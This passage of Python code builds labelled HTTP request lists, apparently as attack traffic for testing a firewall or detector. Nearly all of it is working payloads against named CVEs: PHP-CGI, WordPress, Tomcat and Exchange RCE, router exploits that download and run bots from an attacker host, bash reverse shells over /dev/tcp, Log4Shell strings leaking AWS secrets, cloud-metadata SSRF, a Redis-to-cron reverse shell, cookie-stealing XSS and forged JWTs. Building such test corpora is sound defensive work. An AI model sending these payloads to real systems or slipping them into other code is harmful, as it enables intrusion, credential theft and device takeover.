                                                                        "php://filter/write=convert.iconv.utf-8.utf-16be|convert.quoted-printable-encode|"
                                                                        "convert.iconv.utf-16be.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log"}}))
    out.append(js("rce", "/_ignition/execute-solution", {"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
                                                         "parameters": {"variableName": "username", "viewFile": "phar://../storage/logs/laravel.log/test.txt"}}))
    # PHPUnit eval-stdin (CVE-2017-9841), PHP-CGI argument injection (CVE-2012-1823, CVE-2024-4577 soft hyphen)
    out.append(raw("rce", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", '<?php echo md5("phpunit"); ?>', TEXT))
    out.append(raw("rce", "POST", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
                   "<?php echo shell_exec('id'); ?>", {"Content-Type": "application/x-www-form-urlencoded"}))
    out.append(raw("rce", "POST", "/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+cgi.redirect_status_env+%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
                   "<?php system('whoami'); ?>", {"Content-Type": "application/x-www-form-urlencoded"}))
    # phpMyAdmin setup.php unserialize (CVE-2009-1151 era, still scanned daily)
    out.append(form("deserialization", "/phpmyadmin/scripts/setup.php", {"action": "test", "configuration":
                                                                         'O:10:"PMA_Config":1:{s:6:"source",s:11:"/etc/passwd";}'}))
    # WordPress: File Manager upload (CVE-2020-25213), WP_Query tax_query (CVE-2022-21661), WP-Automatic (CVE-2024-27956),
    # Bricks builder (CVE-2024-25600), xmlrpc pingback SSRF
    out.append(multipart("rce", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", [
        ("cmd", "upload", None, None), ("target", "l1_Lw", None, None),
        ("upload[]", '<?php system($_GET["cmd"]); ?>', "x1.php", "application/x-php")]))
    out.append(form("sqli", "/wp-admin/admin-ajax.php", {"action": "test", "nonce": "a85a0c3bfa", "query_vars":
                                                         '{"tax_query":{"0":{"field":"term_taxonomy_id","terms":["111) and extractvalue(rand(),concat(0x5e,user(),0x5e))#"]}}}'}))
    out.append(form("sqli", "/wp-content/plugins/wp-automatic/inc/csv.php", {
        "q": "INSERT INTO wp_users (user_login, user_pass, user_nicename, user_email, user_registered, user_status, display_name) "
             "VALUES ('eviladmin', MD5('pwn3d!'), 'eviladmin', 'x@evil.example', NOW(), 0, 'eviladmin');",
        "auth": "\x00", "integ": "09d051f2fa6ec1eb8d2bd0ac5d76b8f1"}))
    out.append(js("rce", "/wp-json/bricks/v1/render_element", {"postId": "1", "nonce": "8a1b2c3d4e", "element": {"name": "container", "settings": {
        "hasLoop": "true", "query": {"useQueryEditor": True, "queryEditor": "throw new Exception(`id`);", "objectType": "post"}}}}))
    out.append(xml("ssrf", "/xmlrpc.php", "<?xml version=\"1.0\"?><methodCall><methodName>pingback.ping</methodName><params><param><value>"
                   "<string>http://169.254.169.254/latest/meta-data/iam/security-credentials/</string></value></param><param><value>"
                   "<string>https://blog.shop.example/?p=1</string></value></param></params></methodCall>", "text/xml"))
    # Magento CosmicSting: XXE inside a JSON field (CVE-2024-34102)
    out.append(js("xxe", "/rest/V1/guest-carts/abc/estimate-shipping-methods", {"address": {"totalsReader": {"collectorList": {"totalCollector": {
        "sourceData": {"data": f'<?xml version="1.0" ?><!DOCTYPE r [<!ELEMENT r ANY ><!ENTITY % sp SYSTEM "http://{OOB}/dtd.xml"> %sp; %param1; ]>'
                       '<r>&exfil;</r>', "options": 16}}}}}}))
    # Tomcat: JSP upload through PUT (CVE-2017-12617), partial PUT session deserialization (CVE-2025-24813)
    out.append(raw("rce", "PUT", "/shell.jsp/", '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>', TEXT))
    gadget = (b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00\ncomparatort"
              b"\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00+org.apache.commons.beanutils.BeanComparator\xe3\xa1\x88\xeas"
              b"\"\xa4H\x02\x00\x02L\x00\ncomparatorq\x00~\x00\x01L\x00\x08propertyt\x00\x12Ljava/lang/String;xpsr\x00?org.apache."
              b"commons.collections.comparators.ComparableComparator\xfb\xf4\x99%\xb8n\xb17\x02\x00\x00xpt\x00\x10outputProperties"
              b"w\x04\x00\x00\x00\x03sr\x00:com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\tWO\xc1n\xac\xab3\x03\x00")
    out.append(raw("deserialization", "PUT", "/nxd7c1.session", gadget, {"Content-Type": "application/octet-stream",
                                                                        "Content-Range": "bytes 0-5/100"}))
    return out


def appliance_cves() -> list[Req]:
    out: list[Req] = []
    # Router and NAS botnets (Mozi, GPON, JAWS, Huawei HG532, Zyxel, Cacti, SaltStack, Bitbucket)
    out.append(raw("rce", "GET", f"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{EVIL}:8088/Mozi.m+-O+/tmp/netgear;"
                   "sh+netgear&curpath=/&currentsetting.htm=1"))
    out.append(form_raw("rce", "/GponForm/diag_Form?images/",
                        f"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://{EVIL}/gpon+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0"))
    out.append(raw("rce", "GET", f"/shell?cd+/tmp;rm+-rf+*;wget+{EVIL}/jaws;sh+/tmp/jaws"))
    out.append(xml("rce", "/ctrlt/DeviceUpgrade_1", '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
                   's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:'
                   f'WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g {EVIL} -l /tmp/mips -r /mips; /bin/busybox chmod 777 /tmp/mips; '
                   '/tmp/mips huawei.rep)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>',
                   "text/xml"))
    out.append(js("rce", "/ztp/cgi-bin/handler", {"command": "setWanPortSt", "proto": "dhcp", "port": "4", "vlan_tagged": "1", "vlanid": "5",
                                                  "mtu": f"; bash -c 'exec bash -i &>/dev/tcp/{EVIL}/4444 <&1';", "data": "hi"}))
    out.append(raw("rce", "GET", "/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=`touch+/tmp/cacti_pwn`",
                   headers={"X-Forwarded-For": "127.0.0.1"}))
    out.append(form("rce", "/run", {"token": "12312", "client": "ssh", "tgt": "*", "fun": "a", "roster": "whip1ash",
                                    "ssh_priv": f"aaa|curl http://{OOB}/salt;"}))
    out.append(raw("rce", "GET", "/rest/api/latest/projects/PRJ/repos/app/archive?filename=x&at=x&path=x&prefix=ax%00--exec=%60id%60%00--remote=origin"))
    # Exchange ProxyShell / ProxyNotShell / ProxyLogon
    out.append(raw("ssrf", "GET", "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example"))
    out.append(raw("ssrf", "POST", "/autodiscover/autodiscover.json?@foo.example/autodiscover/autodiscover.xml?&Email=autodiscover/autodiscover.json%3f@foo.example",
                   '<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"><Request>'
                   '<EMailAddress>administrator@corp.example</EMailAddress><AcceptableResponseSchema>http://schemas.microsoft.com/exchange/'
                   'autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>', {"Content-Type": "text/xml"}))
    out.append(raw("ssrf", "GET", "/autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/autodiscover.json%3f@evil.example"
                   "&Protocol=XYZ&FooProtocol=Powershell"))
    out.append(raw("ssrf", "POST", "/ecp/y.js", "", {"Cookie": "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; "
                                                             "X-BEResource=localhost/owa/auth/logon.aspx?~3;", "Content-Type": "text/xml"}))
    # GitLab: ExifTool DjVu in an image upload (CVE-2021-22205), CI lint SSRF (CVE-2021-22214), reset to two e-mails (CVE-2023-7028)
    djvu = (b"AT&TFORM\x00\x00\x03\xafDJVMDIRM\x00\x00\x00.\x81\x00\x02\x00\x00\x00F\x00\x00\x00\xac\xff\xff\xde\xbf\x99 !\xc8\x91N\xeb"
            b"\x0c\x07\x1f\xd2\xda\x88\xe8k\xe6D\x0f,q\x02\xeeI\xd3n\x95\xbd\xa2\xc3\"?FORM\x00\x00\x00^DJVUINFO\x00\x00\x00\n\x00\x08"
            b"\x00\x08\x18\x00d\x00\x16\x00INCL\x00\x00\x00\x0fshared_anno.iff\x00FORM\x00\x00\x03\x07DJVIANTa\x00\x00\x01P"
            b'(metadata\n\t(Copyright "\\\n" . qx{curl -s http://' + EVIL.encode() + b'/gl.sh | bash} . \\\n" b ") )\n')
    out.append(with_headers(multipart("rce", "/uploads/user", [("file", djvu, "avatar.jpg", "image/jpeg")]),
                            {"X-CSRF-Token": "kQ9x0v1yYbZ3eTqW5rN7uHcL2mJ8pD4s"}))
    out.append(js("ssrf", "/api/v4/ci/lint", {"include_merged_yaml": True,
                                              "content": "include:\n  remote: http://169.254.169.254/latest/meta-data/iam/security-credentials/x.yml"}))
    out.append(form_raw("access_bypass", "/users/password",
                        "authenticity_token=x9Qv&user%5Bemail%5D%5B%5D=victim%40shop.example&user%5Bemail%5D%5B%5D=attacker%40evil.example"))
    # Next.js middleware bypass (CVE-2025-29927), Confluence setup reset (CVE-2023-22515), 403 bypass headers
    out.append(hdr("access_bypass", {"x-middleware-subrequest": "middleware:middleware:middleware:middleware:middleware"}, "/admin/users"))
    out.append(raw("access_bypass", "GET", "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false"))
    out.append(hdr("access_bypass", {"X-Original-URL": "/admin/users/delete?id=1"}, "/"))
    out.append(hdr("access_bypass", {"X-Rewrite-URL": "/admin/config"}, "/anything"))
    return out


# --------------------------------------------------------------------------------------------------
# Attacks: what spraying tools and active scanners send
# --------------------------------------------------------------------------------------------------

def log4shell() -> list[Req]:
    p = [f"${{jndi:ldap://{OOB}/a}}",
         f"${{${{lower:j}}${{lower:n}}${{lower:d}}${{lower:i}}:${{lower:l}}${{lower:d}}${{lower:a}}${{lower:p}}://{OOB}/b}}",
         f"${{${{::-j}}ndi:rmi://{OOB}/c}}",
         f"${{jndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{OOB}/d}}",
         f"${{${{env:ENV_NAME:-j}}ndi${{env:ENV_NAME:-:}}${{env:ENV_NAME:-l}}dap${{env:ENV_NAME:-:}}//{OOB}/e}}",
         f"${{jndi:ldap://${{env:AWS_SECRET_ACCESS_KEY}}.{OOB}/f}}",
         f"${{jndi:dns://${{hostName}}.{OOB}}}",
         f"${{j${{k8s:k5:-ND}}i${{sd:k5:-:}}ldap://{OOB}/g}}",
         f"${{${{upper:j}}ndi:ldaps://{OOB}/h}}",
         f"${{jn${{date:}}di${{date:':'}}ldap://{OOB}/i}}",
         f"${{jndi:ldap://127.0.0.1#{OOB}:1389/j}}",
         f"${{jndi:iiop://{OOB}/k}}",
         f"${{jndi:ldap://${{sys:java.version}}.{OOB}/m}}",
         f"${{${{lower:${{lower:jndi}}}}:${{lower:rmi}}://{OOB}/n}}",
         f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-l}}${{::-d}}${{::-a}}${{::-p}}://{OOB}/o}}"]
    out: list[Req] = []
    # spread over the headers mass scanners fill (one header per request, as most sprays do)
    for i, name in enumerate(["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Authorization", "Cookie", "Accept-Language",
                              "X-Client-IP", "Origin", "True-Client-IP", "Contact", "X-Requested-With"]):
        v = p[i % len(p)]
        v = {"Authorization": f"Bearer {v}", "Cookie": f"JSESSIONID={v}", "Origin": f"https://{v}"}.get(name, v)
        out.append(hdr("log4shell", {name: v}, ["/", "/api/v1/login", "/api/v2/products", "/api/health"][i % 4]))
    out.append(raw("log4shell", "GET", "/api/v1/search?q=" + q(p[12]) + "&lang=en"))
    out.append(raw("log4shell", "GET", "/" + q(p[14]) + "/index.html"))
    out.append(js("log4shell", "/api/login", {"username": p[10], "password": "x", "remember": True}))
    out.append(js("log4shell", "/api/login", {"username": "ubnt", "password": "ubnt", "remember": p[11], "strict": True}))
    out.append(raw_json("log4shell", "/api/v1/events", '{"event":"page_view","props":{"title":"\\u0024{jndi:ldap://' + OOB + '/p}"}}'))
    out.append(form("log4shell", "/j_security_check", {"j_username": p[1], "j_password": "admin"}))
    out.append(raw("log4shell", "GET", "/solr/admin/cores?action=" + q(p[0])))
    out.append(multipart("log4shell", "/api/v1/files", [("file", "hello", p[13] + ".txt", "text/plain")]))
    return out


def shellshock() -> list[Req]:
    return [
        hdr("rce", {"User-Agent": "() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'"}, "/cgi-bin/status"),
        hdr("rce", {"Referer": f'() {{ :;}}; /bin/bash -c "wget http://{EVIL}/bot -O /tmp/.b; chmod +x /tmp/.b; /tmp/.b"'}, "/cgi-bin/test-cgi"),
        hdr("rce", {"Cookie": f"() {{ :; }}; ping -c 3 {OOB}"}, "/cgi-bin/admin.cgi"),
        hdr("rce", {"User-Agent": "() { ignored; }; echo Content-Type: text/plain ; echo ; echo ; /usr/bin/id"}, "/cgi-bin/php"),
        hdr("rce", {"X-Custom": "() { _; } >_[$($())] { echo; id; }"}, "/cgi-bin/bin/hello.sh"),
        hdr("rce", {"User-Agent": f"() {{ :; }}; /bin/bash -c 'bash -i >& /dev/tcp/{EVIL}/9001 0>&1'"}, "/"),
    ]


def sqlmap() -> list[Req]:
    sq: list[tuple[str, str]] = [  # (payload, technique)
        ("1'/**/AND/**/2890=2890/**/AND/**/'xYzA'='xYzA", "space2comment"),
        ("1 AND 9271 NOT BETWEEN 0 AND 9270", "between"),
        ("1' AND 3142 BETWEEN 3142 AND 3142-- jYpL", "between"),
        ("1' UnIoN aLl SeLeCt NuLl,CoNcAt(0x7176717a71,UsEr(),0x71626b7a71),NuLl-- -", "randomcase"),
        ("1'/*!UNION*//*!ALL*//*!SELECT*/NULL,/*!CONCAT*/(0x717a767a71,/*!USER*/(),0x716b707871),NULL-- -", "versionedmorekeywords"),
        ("1 /*!30874AND 2>1*/--", "modsecurityversioned"),
        ("1'+AND+(SELECT+4564+FROM+(SELECT(SLEEP(5)))pYtX)--+FyEg", "space2plus"),
        ("1' AND GTID_SUBSET(CONCAT(0x7178786271,(SELECT (ELT(2374=2374,1))),0x716a6a6b71),2374)-- JgYm", "error-based"),
        ("1' AND 5151=5151 AND 'DAQS'='DAQS", "boolean"),
        ("1';SELECT PG_SLEEP(5)--", "stacked"),
        ("1 AND 3172=(SELECT 3172 FROM PG_SLEEP(5))", "pg time"),
        ("1' AND 2153=DBMS_PIPE.RECEIVE_MESSAGE(CHR(113)||CHR(71)||CHR(90)||CHR(117),5) AND 'a'='a", "oracle time"),
        ("1;WAITFOR DELAY '0:0:5'--", "mssql stacked"),
        ("1 AND 1234=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))", "sqlite heavy"),
        ("1)'\"(.,\"(", "heuristic"),
        ("1%' AND 8310=8310 AND '%'='", "percent wildcard"),
        ("1' AND 1=1 LIKE 1-- ", "equaltolike"),
        ("1'%0AAND%0A7491=7491--%0A", "space2mssqlblank"),
        ("1 && 1=1", "symboliclogical"),
        ("1' || 'a'='a", "symboliclogical"),
        ("-4711' UNION ALL SELECT 76,76,76,CONCAT(0x71626a7171,IFNULL(CAST(table_name AS NCHAR),0x20),0x716a627a71),76 FROM "
         "INFORMATION_SCHEMA.TABLES WHERE table_schema IN (0x73686f70)-- -", "union dump"),
        ("1 AND GREATEST(1,2)=2", "greatest"),
        ("1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71,0x78))s), 8446744073709551610, 8446744073709551610)))", "bigint"),
        ("1' ORDER BY 7-- -", "column count"),
        ("(CASE WHEN (6713=6713) THEN 6713 ELSE 6713*(SELECT 6713 FROM INFORMATION_SCHEMA.PLUGINS) END)", "order by case"),
        ("1\u02bc OR 1=1-- ", "unicode apostrophe"),
    ]
    out: list[Req] = []
    for i, (p, _tech) in enumerate(sq):
        where = i % 7
        if where == 0:
            out.append(get("sqli", "/api/v1/products", {"id": p}))
        elif where == 1:
            out.append(js("sqli", "/api/v1/orders/search", {"filter": {"customer_id": p, "status": "open"}, "page": 1}))
        elif where == 2:
            out.append(form("sqli", "/api/v1/login", {"username": "admin" + p[1:] if p.startswith("1") else p, "password": "x"}))
        elif where == 3:
            out.append(hdr("sqli", {"Cookie": "lang=en; uid=" + q(p)}, "/api/v1/account"))
        elif where == 4:
            out.append(get("sqli", "/api/v1/products", {"category": "shoes", "sort": p}))
        elif where == 5:
            out.append(hdr("sqli", {"X-Forwarded-For": "127.0.0.1" + p[1:] if p.startswith("1") else p, "User-Agent": CHROME}, "/api/v1/ping"))
        else:
            out.append(js("sqli", "/api/v1/reports", {"items": [{"sku": "A-1"}, {"sku": p}]}))
    # tamper scripts that change the wire bytes: charencode, chardoubleencode, percentage, apostrophemask, unmagicquotes, base64encode
    out.append(raw("sqli", "GET", "/api/v1/products?id=1%20%41%4E%44%20%28%53%45%4C%45%43%54%20%31%32%33%34%20%46%52%4F%4D%20%28%53%45%4C%45"
                   "%43%54%28%53%4C%45%45%50%28%35%29%29%29%41%29"))
    out.append(raw("sqli", "GET", "/api/v1/products?id=1%2527%2520%2541%254E%2544%2520%2531%253D%2531%2523"))
    out.append(raw("sqli", "GET", "/api/v1/products?id=%1%20%A%N%D%20%S%L%E%E%P%(%5%)"))
    out.append(raw("sqli", "GET", "/api/v1/products?id=1%EF%BC%87%20AND%20%EF%BC%871%EF%BC%87=%EF%BC%871"))
    out.append(raw("sqli", "GET", "/api/v1/products?id=1%bf%27%20AND%201=1--%20"))
    out.append(get("sqli", "/api/v1/export", {"filter": b64("1' AND SLEEP(5)#")}))
    # Burp / ZAP active-scan probes
    out.append(get("sqli", "/api/v1/users", {"name": "ZAP' AND '1'='1' -- "}))
    out.append(get("sqli", "/api/v1/users", {"name": "ZAP%' AND '1'='1' -- "}))
    out.append(js("sqli", "/api/v1/items", {"name": "x'||pg_sleep(20)--"}))
    out.append(form("sqli", "/api/v1/newsletter", {"email": "a@b.c' waitfor delay'0:0:20'--"}))
    return out


def xss() -> list[Req]:
    polyglot = ("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
                "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e")
    out = [
        get("xss", "/api/v1/search", {"q": polyglot}),
        js("xss", "/api/v1/comments", {"post_id": 12, "body": "\"><svg onload=alert(document.domain)>"}),
        form("xss", "/api/v1/contact", {"name": "'\"><img src=x onerror=prompt(document.domain)>", "email": "a@b.co", "msg": "hi"}),
        raw("xss", "GET", "/search/%3Csvg%20onload%3Dalert(1)%3E"),
        get("xss", "/api/v1/search", {"q": "</script><script>alert(1)</script>"}),
        get("xss", "/api/v1/search", {"q": "\"><scrIpt>alert(1);</scRipt>"}),  # ZAP
        get("xss", "/api/v1/search", {"q": "</p><scrIpt>alert(1);</scRipt><p>"}),  # ZAP
        get("xss", "/api/v1/search", {"q": "javascript:alert(1)//"}),  # Burp, in a link field
        raw("xss", "GET", "/api/v1/search?q=%3CdETAILS%0aopen%0aonToGgle%0a=%0aa=prompt,a()%20x%3E"),  # dalfox
        get("xss", "/api/v1/search", {"q": "\"><iFrAme/src=jaVascRipt:alert(1)>"}),
        js("xss", "/api/v1/profile", {"display_name": "<svg/OnLoad=\"`${prompt``}`\">", "bio": "hi"}, method="PATCH"),
        js("xss", "/api/v1/posts", {"title": "Guide", "markdown": "Read the [docs](javascript:alert(document.cookie)) first"}),
        raw_json("xss", "/api/v1/profile", '{"name":"\\u003cimg src=x onerror=alert(1)\\u003e","city":"Paris"}'),
        multipart("xss", "/api/v1/avatars", [("file", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>', "a.svg", "image/svg+xml")]),
        multipart("xss", "/api/v1/attachments", [("file", b"GIF89a", "\"><img src=x onerror=alert(1)>.gif", "image/gif")]),
        js("xss", "/api/v1/templates", {"name": "welcome", "body": "{{constructor.constructor('alert(document.cookie)')()}}"}),
        get("xss", "/api/v1/search", {"q": "<x onpointerover=alert(1)>hover"}),
        js("xss", "/api/v1/links", {"url": "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+", "title": "x"}),
        js("xss", "/api/v1/signatures", {"html": "<p>Regards</p><img src=1 onerror=eval(atob('ZmV0Y2goJy8vZXZpbC5leGFtcGxlLz9jPScrZG9jdW1lbnQuY29va2llKQ=='))>"}),
        get("xss", "/api/v1/search", {"q": f"<script src=//{OOB}/x.js></script>"}),
        get("xss", "/api/v1/items", {"callback": "alert(document.domain)//"}),
        form("xss", "/api/v1/reviews", {"text": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "stars": "5"}),
        js("xss", "/api/v1/pages", {"html": "<a href=\"jav&#x09;ascript:alert(1)\">click</a>"}),
        js("xss", "/api/v1/pages", {"html": "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>"}),
        hdr("xss", {"Referer": "https://shop.example/\"><script>alert(1)</script>"}, "/api/v1/track"),
        hdr("xss", {"User-Agent": "<script>new Image().src='//" + OOB + "/?c='+document.cookie</script>"}, "/api/v1/products"),
        get("xss", "/api/v1/search", {"q": "\" autofocus onfocus=\"alert(1)"}),
    ]
    return out


def jwt_attacks() -> list[Req]:
    admin = {"sub": "1", "name": "admin", "role": "admin", "iat": 1716200000, "exp": 1999999999}
    hs = b"\x8f\x1d\x02\x9c\xa4\x17\xbb\x60\x5e\x22\x91\xd0\x3f\x4c\x77\xe8\x10\x2a\x5b\x93\xc6\x0e\x71\xf4\x88\x19\xab\x3d\x52\xee\x07\x6c"
    return [
        hdr("jwt", {"Authorization": "Bearer " + jwt({"alg": "none", "typ": "JWT"}, admin)}, "/api/v1/admin/users"),
        hdr("jwt", {"Authorization": "Bearer " + jwt({"alg": "None", "typ": "JWT"}, admin)}, "/api/v1/me"),
        hdr("jwt", {"Cookie": "session=" + jwt({"alg": "nOnE"}, admin | {"user_id": 1})}, "/api/v1/orders"),
        hdr("jwt", {"Authorization": "Bearer " + jwt({"alg": "HS256", "typ": "JWT", "kid": "../../../../../../dev/null"}, admin, hs)}, "/api/v1/admin"),
        hdr("jwt", {"Authorization": "Bearer " + jwt({"alg": "HS256", "kid": "x' UNION SELECT 'secret'-- "}, admin, hs)}, "/api/v1/me"),
        hdr("jwt", {"Authorization": "Bearer " + jwt({"alg": "HS256", "kid": "key1|/usr/bin/curl http://" + OOB + "/kid"}, admin, hs)}, "/api/v1/me"),
        hdr("jwt", {"Authorization": "Bearer " + jwt({"alg": "RS256", "jku": f"https://{OOB}/.well-known/jwks.json", "kid": "k1"}, admin, hs)}, "/api/v1/me"),
        hdr("jwt", {"Authorization": "Bearer " + jwt({"alg": "HS256", "kid": "/proc/sys/kernel/randomize_va_space"}, admin, hs)}, "/api/v1/admin"),
        js("jwt", "/api/v1/auth/refresh", {"refresh_token": jwt({"alg": "none"}, {"sub": "admin", "scope": "admin:*"})}),
    ]


def graphql_attacks() -> list[Req]:
    intro = ("query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { ...FullType } } } "
             "fragment FullType on __Type { kind name fields(includeDeprecated: true) { name args { name type { name kind } } "
             "type { name kind ofType { name kind } } } }")
    out = [gql("graphql", intro), get("graphql", "/graphql", {"query": "{__schema{types{name,fields{name}}}}"})]
    # batching abuse: 100 password guesses in one request, as an array and as aliases
    words = ["123456", "password", "qwerty", "letmein", "admin", "welcome", "monkey", "dragon", "111111", "abc123"]
    out.append(js("graphql", "/graphql", [{"query": "mutation($u:String!,$p:String!){login(username:$u,password:$p){token}}",
                                           "variables": {"u": "admin", "p": words[i % 10] + str(i)}} for i in range(100)]))
    out.append(gql("graphql", "mutation { " + " ".join(f'a{i}: login(username: "admin", password: "{w}{i}") {{ token }}'
                                                       for i, w in enumerate(words * 5)) + " }"))
    out.append(gql("graphql", "query { " + " ".join(f"c{i}: verifyOtp(code: \"{i:04d}\") {{ ok }}" for i in range(0, 1000, 7)) + " }"))
    deep = "query { user(id: 1) { " + "friends { " * 18 + "id " + "} " * 18 + "} }"
    out.append(gql("graphql", deep))
    out.append(gql("graphql", "query { __typename " + "@aa" * 600 + " }"))
    # injection through variables
    q1 = "query($id: ID!) { order(id: $id) { id total } }"
    out.append(gql("sqli", q1, {"id": "1' UNION SELECT card_number,cvv FROM payments-- -"}))
    out.append(gql("nosqli", "query($f: JSON) { users(filter: $f) { email } }", {"f": {"email": {"$ne": None}, "password": {"$regex": "^a"}}}))
    out.append(gql("ssrf", "mutation($u: String!) { importFromUrl(url: $u) { id } }", {"u": "http://169.254.169.254/latest/meta-data/iam/"}))
    out.append(gql("traversal", "query($p: String!) { file(path: $p) { content } }", {"p": "../../../../../etc/passwd"}))
    out.append(gql("xss", "mutation($b: String!) { updateBio(bio: $b) { id } }", {"b": "<img src=x onerror=alert(document.cookie)>"}))
    return out


def proto_pollution() -> list[Req]:
    return [
        raw("proto_pollution", "GET", "/api/v1/products?__proto__[isAdmin]=true"),
        raw("proto_pollution", "GET", "/api/v1/products?constructor[prototype][isAdmin]=true"),
        raw("proto_pollution", "GET", "/api/v1/products?__proto__.polluted=1"),
        raw("proto_pollution", "GET", "/api/v1/search?q=shoes&a[__proto__][role]=admin"),
        raw("proto_pollution", "GET", "/api/v1/search?%5F%5Fproto%5F%5F%5BinnerHTML%5D=%3Cimg%2Fsrc%2Fonerror%3Dalert(1)%3E"),
        raw("proto_pollution", "GET", "/api/v1/search?__pro__proto__to__[isAdmin]=1"),
        raw_json("proto_pollution", "/api/v1/users/42/settings", '{"theme":"dark","__proto__":{"isAdmin":true}}'),
        js("proto_pollution", "/api/v1/merge", {"constructor": {"prototype": {
            "shell": "/proc/self/exe", "argv0": "console.log(require('child_process').execSync('id').toString())//",
            "NODE_OPTIONS": "--require /proc/self/cmdline"}}}),
        form("proto_pollution", "/api/v1/preferences", {"__proto__[outputFunctionName]": "x;process.mainModule.require('child_process').execSync('id');s"}),
    ]


def ssrf() -> list[Req]:
    targets = [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://[::ffff:169.254.169.254]/latest/meta-data/",
        "http://2852039166/latest/meta-data/",
        "http://0251.0376.0251.0376/latest/user-data",
        "http://0xA9FEA9FE/latest/meta-data/",
        "http://169.254.169.254.nip.io/latest/meta-data/",
        "http://7f000001.c0a80001.rbndr.us:8080/admin",
        "http://evil.example@127.0.0.1:6379/",
        "http://127.0.0.1#@shop-cdn.example/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        "http://169.254.170.2/v2/credentials",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://127.1:2375/containers/json",
        "http://0:8080/actuator/env",
        "http://①②⑦.⓪.⓪.①/admin",
        "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
        "http://localtest.me:9200/_cat/indices",
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2464%0D%0A%0A%0A"
        "%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-c%20%22sh%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.66%2F4444%200%3E%261%22%0A%0A%0A%0D%0A"
        "%2A4%0D%0A%246%0D%0Aconfig%0D%0A%243%0D%0Aset%0D%0A%243%0D%0Adir%0D%0A%2416%0D%0A%2Fvar%2Fspool%2Fcron%2F%0D%0A%2A1%0D%0A%244%0D%0Asave%0D%0A",
        "gopher://127.0.0.1:11211/_%0d%0aset%20session:admin%200%200%205%0d%0aowned%0d%0a",
        "dict://127.0.0.1:6379/CONFIG%20SET%20dir%20/var/spool/cron/",
        "http://[0:0:0:0:0:ffff:127.0.0.1]:8500/v1/agent/self",
        "https://shop.example.evil.example@169.254.169.254/latest/meta-data/",
    ]
    out: list[Req] = []
    for i, t in enumerate(targets):
        k = i % 6
        if k == 0:
            out.append(js("ssrf", "/api/v1/webhooks", {"url": t, "events": ["order.created"], "active": True}))
        elif k == 1:
            out.append(get("ssrf", "/api/v1/link-preview", {"url": t}))
        elif k == 2:
            out.append(js("ssrf", "/api/v1/profile/avatar", {"avatar_url": t}, method="PUT"))
        elif k == 3:
            out.append(js("ssrf", "/api/v1/integrations", nest(["config", "callback"], {"endpoint": t, "secret": "x"})))
        elif k == 4:
            out.append(form("ssrf", "/api/v1/import", {"source": "url", "feed_url": t}))
        else:
            out.append(js("ssrf", "/api/v1/pdf", {"html_url": t, "format": "A4"}))
    # absolute-form request line: the open-proxy probe every scanner runs
    out.append(raw("ssrf", "GET", "http://169.254.169.254/latest/meta-data/"))
    out.append(raw("ssrf", "CONNECT", "127.0.0.1:22"))
    out.append(get("ssrf", "/plugins/servlet/gadgets/makeRequest", {"url": "https://shop.example@169.254.169.254/latest/meta-data/"},
                   headers={"X-Atlassian-Token": "no-check"}))
    return out


